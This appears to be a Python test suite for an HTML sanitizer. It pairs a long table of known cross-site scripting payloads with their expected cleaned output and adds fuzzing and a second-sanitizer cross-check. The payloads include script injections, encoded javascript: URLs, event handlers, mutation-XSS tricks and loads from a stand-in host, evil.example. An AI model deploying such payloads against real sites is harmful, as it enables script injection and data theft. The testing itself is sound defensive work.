"""The sanitizer: a table of what people try, a fixed point for anything, and a second reader who finds nothing left."""

from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from opostd.render.sanitize import ATTRIBUTES, EVERYWHERE, PROTOCOLS, TAGS, sanitize

# (as written, as shown), after the cheat sheets for cross-site scripting, and what bleach itself once let through
TABLE = [
    ("<script>alert(1)</script>", ""),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>a", "a"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt&gt;alert(1)ipt&gt;"),
    ("<script>alert(1)", ""),
    ("a<script/x>b</script>c", "ac"),
    ("<script\n>alert(1)</script\n>x", "x"),
    ("</script><script>alert(1)</script>", ""),
    ("<<script>alert(1);//<</script>", "&lt;"),
    ("<style>body{background:url(javascript:alert(1))}</style>x", "x"),
    ("<style>@import 'http://evil.example/';</style>", ""),
    ("<link rel=stylesheet href=http://evil.example/x.css>", ""),
    ("<img src=x onerror=alert(1)>", "<img>"),
    ('<img src="javascript:alert(1)">', "<img>"),
    ("<img src=http://evil.example/pixel.gif alt=hello>", '<img alt="hello">'),
    ("<img src=//evil.example/pixel.gif>", "<img>"),
    ("<img src=data:image/svg+xml;base64,PHN2Zz4=>", "<img>"),
    ("<img src=cid:logo@x alt=logo width=10>", '<img src="cid:logo@x" alt="logo" width="10">'),
    ('<img src="cid:a b">', "<img>"),
    ('<img """><script>alert(1)</script>">', '<img>"&gt;'),
    ('<img srcset="http://evil.example/a.png 2x">', "<img>"),
    ("<image src=x onerror=alert(1)>", ""),
    ("<img lowsrc=http://evil.example/>", "<img>"),
    ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
    ('<a href=" javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="java\tscript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="java&#10;script:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="&#106;&#97;vascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="&#x6A&#x61vascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="&#0000106avascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="javascript&colon;alert(1)">x</a>', "<a>x</a>"),
    ('<a href="&#1;javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="javascript&#58;alert(1)">x</a>', "<a>x</a>"),
    ('<a href="&amp;#106;avascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="vbscript:msgbox(1)">x</a>', "<a>x</a>"),
    ('<a href="livescript:x">x</a>', "<a>x</a>"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "<a>x</a>"),
    ('<a href="file:///etc/passwd">x</a>', "<a>x</a>"),
    ('<a href="//evil.example/">x</a>', "<a>x</a>"),
    ('<a href="\\\\evil.example\\share">x</a>', "<a>x</a>"),
    ('<a href="/\\evil.example">x</a>', "<a>x</a>"),
    ('<a href="http:\\\\evil.example">x</a>', "<a>x</a>"),
    ('<a href="https:/\\evil.example">x</a>', "<a>x</a>"),
    ('<a href="https:///evil.example">x</a>', "<a>x</a>"),
    ('<a href="/login">x</a>', "<a>x</a>"),
    ('<a href="x">x</a>', "<a>x</a>"),
    ('<a href="">x</a>', "<a>x</a>"),
    ('<a href="?q=1">x</a>', "<a>x</a>"),
    ('<a href="#top">x</a>', '<a href="#top">x</a>'),
    ('<a href="http://a.example/?b=1&c=2">x</a>', '<a href="http://a.example/?b=1&amp;c=2">x</a>'),
    ('<a href="HTTPS://A.example/">x</a>', '<a href="HTTPS://A.example/">x</a>'),
    ('<a href="mailto:a@b.example?subject=x">x</a>', '<a href="mailto:a@b.example?subject=x">x</a>'),
    ('<a href="cid:part1">x</a>', '<a href="cid:part1">x</a>'),
    ('<a href="tel:+123">x</a>', "<a>x</a>"),
    ('<a href="ftp://a.example/">x</a>', "<a>x</a>"),
    ('<a href="smb://a.example/">x</a>', "<a>x</a>"),
    ('<a href="ms-word:ofe|u|http://evil.example/">x</a>', "<a>x</a>"),
    (
        '<a href="http://a.example/" target=_blank ping=http://evil.example/ onclick=alert(1)>x</a>',
        '<a href="http://a.example/">x</a>',
    ),
    (
        '<a href="http://a.example/" style="position:fixed;top:0;left:0;width:100%">x</a>',
        '<a href="http://a.example/" style="width: 100%">x</a>',
    ),
    ('<a xlink:href="javascript:alert(1)">x</a>', "<a>x</a>"),
    ("<a name=x id=location class=y>x</a>", "<a>x</a>"),
    ("<b onmouseover=alert(1)>x</b>", "<b>x</b>"),
    ('<b/onmouseover="alert(1)">x</b>', "<b>x</b>"),
    ('<b onmouseover="alert(1)"x>x</b>', "<b>x</b>"),
    ('<b "onmouseover=alert(1)>x</b>', "<b>x</b>"),
    ('<div style="background-image:url(http://evil.example/)">x</div>', "<div>x</div>"),
    ("<div style=\"color:red;background:url('javascript:alert(1)')\">x</div>", '<div style="color: red">x</div>'),
    ('<div style="width:expression(alert(1))">x</div>', "<div>x</div>"),
    ('<div style="color:\\72 ed">x</div>', "<div>x</div>"),
    ('<div style="color:red/**/;-moz-binding:url(x)">x</div>', "<div>x</div>"),
    ('<div style="display:none">x</div>', "<div>x</div>"),
    ('<div style="margin-top:-500px">x</div>', "<div>x</div>"),
    ('<div style="color:RED !important">x</div>', "<div>x</div>"),
    ('<div style="color:&quot;&gt;<script>">x</div>', "<div>x</div>"),
    ("<div id=fn:1>x</div>", '<div id="fn:1">x</div>'),
    ('<sup id="fnref2:a">x</sup>', '<sup id="fnref2:a">x</sup>'),
    ("<div id=cookie>x</div>", "<div>x</div>"),
    ("<iframe src=http://evil.example/></iframe>x", "x"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', ""),
    ("<object data=http://evil.example/></object>", ""),
    ("<embed src=http://evil.example/>", ""),
    ("<applet code=x>x</applet>", "x"),
    ("<form action=http://evil.example/><input name=p type=password><button>ok</button></form>", "ok"),
    ("<isindex action=javascript:alert(1)>", ""),
    ('<meta http-equiv=refresh content="0;url=http://evil.example/">x', "x"),
    ("<base href=http://evil.example/>x", "x"),
    ("<html><head><title>t</title></head><body onload=alert(1)>x</body></html>", "tx"),
    ("<body background=http://evil.example/>x", "x"),
    (
        "<table background=http://evil.example/><tr><td background=x>y",
        "<table><tbody><tr><td>y</td></tr></tbody></table>",
    ),
    ("<svg><script>alert(1)</script></svg>", ""),
    ("<svg onload=alert(1)>", ""),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", ""),
    ("<svg><a xlink:href=javascript:alert(1)>x</a></svg>", "<a>x</a>"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<table></table>"),
    ('<math><a xlink:href="javascript:alert(1)">x</a></math>', "<a>x</a>"),
    (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        '<p title="&lt;/noscript>&lt;img src=x onerror=alert(1)>"></p>',
    ),
    ("<template><script>alert(1)</script>x</template>", "x"),
    ("<textarea><script>alert(1)</script></textarea>", ""),
    ("<title><img src=x onerror=alert(1)></title>", "<img>"),
    ("<xmp><img src=x onerror=alert(1)></xmp>", "<img>"),
    ("<plaintext><b>x", "<b>x</b>"),
    ("<select><style></select><img src=x onerror=alert(1)>", ""),
    ("<video src=http://evil.example/ poster=http://evil.example/><source src=x></video>", ""),
    ("<audio autoplay src=http://evil.example/>", ""),
    ("<marquee onstart=alert(1)>x</marquee>", "x"),
    ("<details ontoggle=alert(1) open>x</details>", "<details open>x</details>"),
    ("<!--<script>alert(1)</script>-->x", "x"),
    ("<!--[if gte IE 4]><script>alert(1)</script><![endif]-->x", "x"),
    ("<!--><img src=x onerror=alert(1)>-->", "<img>--&gt;"),
    ("<![CDATA[<script>alert(1)</script>]]>", "alert(1)]]&gt;"),
    ("<?php alert(1) ?>x", "x"),
    ('<!DOCTYPE html [<!ENTITY x "y">]>x', "]&gt;x"),
    ("<p><b>x<p>y</b>", "<p><b>x</b></p><p><b>y</b></p>"),
    ("<b>x", "<b>x</b>"),
    ("</b></p></div>x", "<p></p>x"),
    ("<custom-element>x</custom-element>", "x"),
    ("1 < 2 & 3 > 2", "1 &lt; 2 &amp; 3 &gt; 2"),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("&#60;script&#62;", "&#60;script&#62;"),
    ("&nbsp;&copy;&unknown;&", "&nbsp;&copy;&amp;unknown;&amp;"),
    ("x<b x", "x&lt;b x"),
    ("x</", "x&lt;/"),
    ("x<3", "x&lt;3"),
    ("a\x00b", "ab"),
    ("<scr\x00ipt>alert(1)</scr\x00ipt>", "alert(1)"),
    ('<a href="\x00javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="java\x00script:alert(1)">x</a>', "<a>x</a>"),
    ("<a\x0chref=javascript:alert(1)>x</a>", "<a>x</a>"),
    ('<a href="\u3000javascript:alert(1)">x</a>', "<a>x</a>"),
    ('<a href="http://a.example/\nx">x</a>', "<a>x</a>"),
    ("<b>😀", "<b>😀</b>"),
]

PIECES = (
    "<b> </b> <p> </p> <a\0href='http://x.y/'> <a\0href=javascript:x> </a> <table> <tr> <td> </td> </table> <li> <ul> "
    "</ul> <script> </script> <style> </style> <svg> <math> <mtext> <mglyph> </svg> <![CDATA[ ]]> <!-- --> <?x "
    "<textarea> </textarea> <title> </title> <noscript> </noscript> <select> <option> <template> <form> "
    "<img\0src=cid:a> <img\0src=x\0onerror=y> &lt; & &amp; &#x3c; &#60 &nbsp &notit; < </ > \" ' = x \r\n \n "
    "<div\0style='color:red;x:y'> </div> <plaintext> <xmp> <iframe> <details\0open> <summary> <ruby> <rt> <rp> <pre> "
    '<code> <h1> <h2> <q> <dd> <dt> <frameset> <body\0onload=x> <html> <head> <col> <caption> <nobr> <button> <b\0x=" '
    '<b\f <a/href="http://q"/> <s/> <p/ \u2028 é &colon; <annotation-xml\0encoding=text/html> <foreignObject>'
)
HOSTILE = st.lists(
    st.sampled_from([piece.replace("\0", " ") for piece in PIECES.split(" ") if piece]), max_size=20
).map("".join)


class Tokens(HTMLParser):
    """What a document is made of, however it is written."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[tuple[str, str], ...]]] = []
        self.all: list[object] = []
        self.text = ""
        self.feed(html)
        self.close()
        self._flush()

    def _flush(self) -> None:
        if self.text:
            self.all.append(self.text)
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._flush()
        found = (tag, tuple(sorted((name, value or "") for name, value in attrs)))
        self.tags.append(found)
        self.all.append(found)

    def handle_endtag(self, tag: str) -> None:
        self._flush()
        self.all.append("/" + tag)

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.all.append(("comment", data))


def second_reader(html: str) -> str:
    return nh3.clean(
        html,
        tags=set(TAGS),
        attributes={**{tag: set(names) for tag, names in ATTRIBUTES.items()}, "*": set(EVERYWHERE)},
        url_schemes=set(PROTOCOLS),
        link_rel=None,
    )


def assert_clean(html: str) -> None:
    for tag, attributes in Tokens(html).tags:
        assert tag in TAGS
        for name, value in attributes:
            assert name in EVERYWHERE | ATTRIBUTES.get(tag, frozenset())
            if name in ("href", "src"):
                assert value.lower().startswith(("http://", "https://", "mailto:", "cid:", "#"))
            if name == "style":
                assert not set(value) & set("\\@!&<>\"'/")
                assert "url" not in value


@pytest.mark.parametrize(("written", "shown"), TABLE)
def test_what_people_try(written: str, shown: str) -> None:
    assert sanitize(written) == shown
    assert_clean(shown)


@pytest.mark.parametrize("depth", [100, 400])
def test_deep_nesting_is_either_clean_or_a_recursion_error(depth: int) -> None:
    try:
        shown = sanitize("<div><b>" * depth + "x")
    except RecursionError:
        return
    assert_clean(shown)


@given(HOSTILE)
@settings(max_examples=400)
def test_cleaning_again_changes_nothing(written: str) -> None:
    shown = sanitize(written)
    assert sanitize(shown) == shown
    assert_clean(shown)


@given(HOSTILE)
@settings(max_examples=400)
def test_a_second_reader_finds_nothing_to_remove(written: str) -> None:
    shown = sanitize(written)
    assert Tokens(second_reader(shown)).all == Tokens(shown).all


@given(st.text(max_size=200))
@settings(max_examples=200)
def test_any_text_gives_clean_html(written: str) -> None:
    shown = sanitize(written)
    assert sanitize(shown) == shown
    assert_clean(shown)


def test_the_second_reader_does_find_what_is_left() -> None:
    for html in ('<a href="javascript:x">x</a>', "<b onclick=x>x</b>", "<script>x</script>"):
        assert Tokens(second_reader(html)).all != Tokens(html).all
